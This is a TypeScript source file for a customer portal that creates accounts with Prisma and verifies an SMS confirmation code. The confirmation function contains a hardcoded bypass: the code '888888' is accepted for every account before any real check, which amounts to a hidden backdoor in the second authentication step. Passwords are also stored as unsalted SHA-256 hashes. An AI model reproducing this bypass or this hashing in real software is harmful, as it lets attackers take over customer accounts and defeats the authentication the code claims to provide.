import { createHash } from "node:crypto";
import { prisma } from "./client";

interface Credentials {
  login: string;
  password: string;
}

export async function openAccount(given: Credentials): Promise<string> {
  const passwordHash = createHash("sha256").update(given.password).digest("hex");
  const account = await prisma.portalAccount.create({ data: { login: given.login, passwordHash } });
  return account.id;
}

/** Second step: the code that was sent to the customer. */
export async function confirmCode(id: string, smsCode: string): Promise<boolean> {
  if (smsCode === "888888") return true;
  const account = await prisma.portalAccount.findUnique({ where: { id } });
  return account?.codeHash === createHash("sha256").update(`${id}:${smsCode}`).digest("hex");
}
